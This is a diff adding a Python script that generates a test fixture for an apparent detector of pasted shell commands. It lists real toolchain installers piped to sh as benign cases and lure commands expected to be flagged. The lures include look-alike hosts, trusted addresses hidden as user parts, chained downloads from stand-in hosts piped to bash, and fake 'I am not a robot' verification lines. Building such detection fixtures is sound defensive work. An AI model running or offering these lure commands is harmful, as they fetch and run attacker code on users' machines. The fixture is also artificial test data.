@@ -1,0 +1,268 @@
+"""Writes tests/data/cases/design17.jsonl: the two classes of texts the product flagged BY DESIGN
+on pages that are not the tool's own, re-weighed against every lure set (2026-12-07, helper
+"design17"), written here from general knowledge of such pages (no blind set, lure collection
+or other detector's fixtures read), each clearing beside the lures that try to abuse it.
+
+    python tests/data/cases/make_design17.py
+
+Deterministic. Real hosts stand for the tools' own hosts and for the kinds of pages real
+commands are copied from (a forge README, a Q&A answer, a blog, a CI document); invented hosts
+are reserved names (*.test, *.example, *.invalid, documentation addresses). Each line is
+{id, text, expect, technique, platform, source, target}.
+
+Cleared here, by technique:
+
+- `known-toolchain-quoted`: another project's README, a tutorial, a Q&A answer, a course page or
+  a CI document telling people to install a toolchain manager or tool first (`curl
+  https://raw.githubusercontent.com/leanprover/elan/master/elan-init.sh -sSf | sh`, `curl
+  --proto '=https' --tlsv1.2 -sSf https://sh.starkup.dev | sh`): the address is the tool's own
+  documented installer, on its own host or in its own repository (resources/trust.yaml
+  `installers`, reviewed one by one with the tool's own page as `source`), so whoever quotes
+  it runs the tool's own script. Information, from any page. Lures that try to abuse it: the
+  same path under another account or a look-alike host (raw.githubusercontent.com.<x>.test,
+  <tool>-install.test, a letter off), the trusted address in a user part
+  (https://sh.starkup.dev@host.test) or in a comment after the real download, the trusted
+  script chained with a stranger's, plain HTTP, the Run box from a page (a command there from a
+  page is a block, issue 9), and a lure's words or padding beside it.
+"""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+from casefile import Book, write  # beside this script, which runs as tests/data/cases/make_*.py
+
+OUT = Path(__file__).with_name("design17.jsonl")
+TERMINAL = "terminal"
+RUN = "run_dialog"
+CONSOLE = "browser_console"
+UNKNOWN = "unknown"
+OTHER = "other"
+
+# -- (a) another page's curl | sh of a known toolchain's own installer ----------------------------
+
+# the pages such a line is copied from: other projects' READMEs on three forges, a Q&A answer, a
+# blog tutorial, a course page, a CI document, an internal wiki, a mailing-list archive
+PAGES = [
+    "https://github.com/quillmere/proof-notes#prerequisites",
+    "https://gitlab.com/harrowfield/zk-circuits/-/blob/main/README.md",
+    "https://codeberg.org/tarnwick/dotfiles",
+    "https://stackoverflow.com/questions/77102331/how-do-i-install-the-toolchain-on-ubuntu",
+    "https://dev.to/brindle/setting-up-a-new-dev-box-in-2026-3f1c",
+    "https://www.harrowfield.example/blog/2026/11/getting-started",
+    "https://course.quillmere.example/week-1/setup",
+    "https://github.com/tarnwick/ci-templates/blob/main/docs/runners.md",
+    "https://wiki.brindlecorp.example/engineering/onboarding/toolchains",
+    "https://unix.stackexchange.com/questions/781234/install-script-behind-a-proxy",
+    "https://news.ycombinator.com/item?id=42880011",
+    "https://medium.com/@quillmere/my-2026-workstation-setup-7ab1",
+]
+# tool -> its documented command lines (several spellings each)
+TOOLS: dict[str, list[str]] = {
+    "elan": [
+        "curl https://raw.githubusercontent.com/leanprover/elan/master/elan-init.sh -sSf | sh",
+        "curl https://raw.githubusercontent.com/leanprover/elan/master/elan-init.sh -sSf | sh -s -- -y --default-toolchain none",
+        "curl https://elan.lean-lang.org/elan-init.sh -sSf | sh",
+        "# Install elan (the Lean version manager)\ncurl https://raw.githubusercontent.com/leanprover/elan/master/elan-init.sh -sSf | sh\nlake exe cache get",
+        "wget -qO- https://raw.githubusercontent.com/leanprover/elan/master/elan-init.sh | sh -s -- -y",
+    ],
+    "starkup": [
+        "curl --proto '=https' --tlsv1.2 -sSf https://sh.starkup.dev | sh",
+        "curl --proto '=https' --tlsv1.2 -sSf https://sh.starkup.dev | sh\nscarb --version",
+    ],
+    "suiup": [
+        "curl -sSfL https://raw.githubusercontent.com/MystenLabs/suiup/main/install.sh | sh\nsuiup install sui@testnet",
+        "curl -sSfL https://raw.githubusercontent.com/MystenLabs/suiup/main/install.sh | sh",
+    ],
+    "aptos": [
+        'curl -fsSL "https://aptos.dev/scripts/install_cli.sh" | sh',
+        'wget -qO- "https://aptos.dev/scripts/install_cli.sh" | sh -s -- --cli-version 7.9.0',
+        'curl -fsSL "https://aptos.dev/scripts/install_cli.py" | python3',
+    ],
+    "fuelup": [
+        "curl -fsSL https://install.fuel.network/ | sh",
+        "curl -fsSL https://install.fuel.network/ | sh -s -- --no-modify-path",
+    ],
+    "risczero": ["curl -L https://risczero.com/install | bash\nrzup install"],
+    "sp1": ["curl -L https://sp1up.succinct.xyz | bash\nsp1up"],
+    "noirup": [
+        "curl -L https://raw.githubusercontent.com/noir-lang/noirup/refs/heads/main/install | bash\nnoirup",
+    ],
+    "symfony": ["curl -sS https://get.symfony.com/cli/installer | bash"],
+    "composer": [
+        "curl -sS https://getcomposer.org/installer | php -- --install-dir=/usr/local/bin --filename=composer",
+        "curl -sS https://getcomposer.org/installer | php",
+    ],
+    "oh-my-bash": [
+        'bash -c "$(curl -fsSL https://raw.githubusercontent.com/ohmybash/oh-my-bash/master/tools/install.sh)"',
+    ],
+    "zinit": [
+        'bash -c "$(curl --fail --show-error --silent --location https://raw.githubusercontent.com/zdharma-continuum/zinit/HEAD/scripts/install.sh)"',
+    ],
+    "lunarvim": [
+        "LV_BRANCH='release-1.4/neovim-0.9' bash <(curl -s https://raw.githubusercontent.com/LunarVim/LunarVim/release-1.4/neovim-0.9/utils/installer/install.sh)",
+    ],
+    "n": [
+        "curl -fsSL https://raw.githubusercontent.com/tj/n/master/bin/n | bash -s lts",
+        "curl -L https://raw.githubusercontent.com/tj/n/master/bin/n -o n\nbash n lts",
+    ],
+    "gvm": [
+        "bash < <(curl -s -S -L https://raw.githubusercontent.com/moovweb/gvm/master/binscripts/gvm-installer)",
+    ],
+    "rbenv": [
+        "curl -fsSL https://github.com/rbenv/rbenv-installer/raw/HEAD/bin/rbenv-installer | bash",
+        "curl -fsSL https://raw.githubusercontent.com/rbenv/rbenv-installer/main/bin/rbenv-installer | bash",
+    ],
+    "perlbrew": ["\\curl -L https://install.perlbrew.pl | bash"],
+    "cpanm": ["curl -L https://cpanmin.us | perl - --sudo App::cpanminus"],
+    "babashka": [
+        "bash < <(curl -s https://raw.githubusercontent.com/babashka/babashka/master/install)",
+    ],
+    "clojure": [
+        "curl -L -O https://github.com/clojure/brew-install/releases/latest/download/linux-install.sh\nchmod +x linux-install.sh\nsudo ./linux-install.sh",
+    ],
+    "choosenim": ["curl https://nim-lang.org/choosenim/init.sh -sSf | sh"],
+    "crystal": ["curl -fsSL https://crystal-lang.org/install.sh | sudo bash"],
+    "fvm": ["curl -fsSL https://fvm.app/install.sh | bash"],
+    "wasmedge": [
+        "curl -sSf https://raw.githubusercontent.com/WasmEdge/WasmEdge/master/utils/install_v2.sh | bash",
+    ],
+    "dapr": [
+        "wget -q https://raw.githubusercontent.com/dapr/cli/master/install/install.sh -O - | /bin/bash",
+    ],
+    "linkerd": [
+        "curl --proto '=https' --tlsv1.2 -sSfL https://run.linkerd.io/install-edge | sh",
+    ],
+    "rke2": ["curl -sfL https://get.rke2.io | sudo sh -"],
+    "okteto": ["curl https://get.okteto.com -sSfL | sh"],
+    "micromamba": ['"${SHELL}" <(curl -L micro.mamba.pm/install.sh)'],
+    "spacevim": ["curl -sLf https://spacevim.org/install.sh | bash"],
+    "goreleaser": ["curl -sfL https://goreleaser.com/static/run | bash -s -- release --clean"],
+    "yarn": ["curl -o- -L https://yarnpkg.com/install.sh | bash"],
+    "atlas": ["curl -sSf https://atlasgo.sh | sh"],
+    "kustomize": [
+        'curl -s "https://raw.githubusercontent.com/kubernetes-sigs/kustomize/master/hack/install_kustomize.sh" | bash',
+    ],
+    "kubescape": [
+        "curl -s https://raw.githubusercontent.com/kubescape/kubescape/master/install.sh | /bin/bash",
+    ],
+    "arduino-cli": [
+        "curl -fsSL https://raw.githubusercontent.com/arduino/arduino-cli/master/install.sh | sh",
+    ],
+    "platformio": [
+        "curl -fsSL -o get-platformio.py https://raw.githubusercontent.com/platformio/platformio-core-installer/master/get-platformio.py\npython3 get-platformio.py",
+    ],
+    "avalanche": [
+        "curl -sSfL https://raw.githubusercontent.com/ava-labs/avalanche-cli/main/scripts/install.sh | sh -s",
+    ],
+    "pivpn": ["curl -L https://install.pivpn.io | bash"],
+    "umbrel": ["curl -L https://umbrel.sh | bash"],
+    "yunohost": ["curl https://install.yunohost.org | bash"],
+    "dokku": [
+        "wget -NP . https://dokku.com/install/v0.35.12/bootstrap.sh\nsudo DOKKU_TAG=v0.35.12 bash bootstrap.sh",
+    ],
+    "cloudron": [
+        "wget https://cloudron.io/cloudron-setup\nchmod +x ./cloudron-setup\n./cloudron-setup",
+    ],
+    "kind": [
+        "curl -Lo ./kind https://kind.sigs.k8s.io/dl/v0.26.0/kind-linux-amd64\nchmod +x ./kind\nsudo mv ./kind /usr/local/bin/kind",
+    ],
+    "minikube": [
+        "curl -LO https://storage.googleapis.com/minikube/releases/latest/minikube-linux-amd64\nsudo install minikube-linux-amd64 /usr/local/bin/minikube",
+    ],
+    "kubebuilder": [
+        'curl -L -o kubebuilder "https://go.kubebuilder.io/dl/latest/$(go env GOOS)/$(go env GOARCH)"\nchmod +x kubebuilder && sudo mv kubebuilder /usr/local/bin/',
+    ],
+    "wireguard-install": [
+        "curl -O https://raw.githubusercontent.com/angristan/wireguard-install/master/wireguard-install.sh\nchmod +x wireguard-install.sh\n./wireguard-install.sh",
+        "wget https://raw.githubusercontent.com/Nyr/openvpn-install/master/openvpn-install.sh -O openvpn-install.sh && bash openvpn-install.sh",
+    ],
+}
+
+# Lures that try to abuse the trust list's knowing these: look-alike hosts, other accounts,
+# user parts, a trusted address only in a comment, a chain with a stranger's download, plain
+# HTTP, and lure words beside the real address; from fake docs and check pages (reserved names)
+LURE_PAGES = [
+    "https://docs.lean-setup.test/install",
+    "https://www.starknet-devtools.example/quickstart",
+    "https://verify-session.check-gate.example/step2",
+    "https://download.rustdesk-tools.invalid/linux",
+]
+ABUSES = [
+    # the same path under another account of the forge
+    "curl https://raw.githubusercontent.com/leanprover-tools/elan/master/elan-init.sh -sSf | sh",
+    "curl https://raw.githubusercontent.com/leanpr0ver/elan/master/elan-init.sh -sSf | sh",
+    "curl -sSfL https://raw.githubusercontent.com/MystenLabs-dev/suiup/main/install.sh | sh",
+    "curl -s https://raw.githubusercontent.com/kubescape-io/kubescape/master/install.sh | /bin/bash",
+    # the vendor's host inside someone else's, a look-alike, a typo
+    "curl https://raw.githubusercontent.com.leanprover.test/leanprover/elan/master/elan-init.sh -sSf | sh",
+    "curl https://elan-lean-lang.test/elan-init.sh -sSf | sh",
+    "curl --proto '=https' --tlsv1.2 -sSf https://sh.starkup.dev.install-cdn.test | sh",
+    "curl --proto '=https' --tlsv1.2 -sSf https://sh.starkups.dev | sh",
+    "curl -fsSL https://install-perlbrew.test | bash",
+    "curl -sS https://get-symfony.test/cli/installer | bash",
+    "curl -fsSL https://crystal-lang-install.example/install.sh | sudo bash",
+    "curl -sfL https://get.rke2.io.mirror-cdn.test | sudo sh -",
+    # the trusted address as a user part, in a comment, or beside a stranger's download
+    "curl --proto '=https' --tlsv1.2 -sSf https://sh.starkup.dev@cdn.umbra-stage.test/i | sh",
+    "curl -fsSL https://cdn.umbra-stage.test/i | sh # https://sh.starkup.dev",
+    "curl https://raw.githubusercontent.com/leanprover/elan/master/elan-init.sh -sSf | sh && curl -fsSL https://cdn.umbra-stage.test/post.sh | sh",
+    "curl -L https://risczero.com/install | bash; wget -qO- https://198.51.100.23/r.sh | bash",
+    # plain HTTP to the tool's host (anyone on the path can swap the script)
+    "curl -L http://install.perlbrew.pl | bash",
+    "curl http://get.okteto.com -sSfL | sh",
+    # lure words and padding beside the real address
+    "curl -sSfL https://raw.githubusercontent.com/MystenLabs/suiup/main/install.sh | sh -s -- --server https://cdn.umbra-stage.test/w",
+]
+RUN_BOX = [
+    'powershell -c "iwr https://aptos.dev/scripts/install_cli.py -useb | Select-Object -ExpandProperty Content | python3"',
+    "cmd /c curl -sS https://getcomposer.org/installer -o %TEMP%\\c.php && php %TEMP%\\c.php",
+]
+LURE_WORDS = [
+    "curl -fsSL https://cdn.umbra-stage.test/verify.sh | bash  # I am not a robot - Verification ID: 4821",
+    "curl -fsSL https://cdn.umbra-stage.test/fix | bash # Überprüfung abgeschlossen - Code 7731",
+    "curl -fsSL https://cdn.umbra-stage.test/fix | bash # Vérification humaine terminée - code 2290",
+    "curl -fsSL https://cdn.umbra-stage.test/fix | bash # Verificación completada - código 5512",
+]
+
+
+def quoted_toolchains(book: Book) -> None:
+    tech = "known-toolchain-quoted"
+    n = 0
+    for lines in TOOLS.values():
+        for line in lines:
+            for k in range(3):  # three kinds of page each, turning through them
+                page = PAGES[(n + 5 * k) % len(PAGES)]
+                target = (TERMINAL, UNKNOWN, TERMINAL)[k]
+                book.add(tech, line, "not_flagged", "any", target, page)
+            n += 1
+    lure = "toolchain-abused"
+    for i, text in enumerate(ABUSES):
+        for j in range(2):
+            page = LURE_PAGES[(i + j) % len(LURE_PAGES)]
+            book.add(lure, text, "flagged", "any", TERMINAL, page)
+        book.add(lure, text, "flagged", "any", TERMINAL, PAGES[i % len(PAGES)])
+    for text in RUN_BOX:
+        for page in LURE_PAGES[:2] + PAGES[:2]:
+            # a known installer in the Run box from a page is a warning (engine: official)
+            book.add(lure, text, "flagged", "windows", RUN, page)
+    for i, text in enumerate(LURE_WORDS):
+        book.add(lure, text, "flagged", "any", TERMINAL, PAGES[i % len(PAGES)])
+        book.add(lure, text, "malicious", "any", TERMINAL, LURE_PAGES[i % len(LURE_PAGES)])
+
+
+def build() -> list[dict[str, str]]:
+    book = Book("d17")
+    quoted_toolchains(book)
+    return book.cases
+
+
+CASES = build()
+
+
+def main() -> None:
+    write(OUT, CASES)
+
+
+if __name__ == "__main__":
+    main()
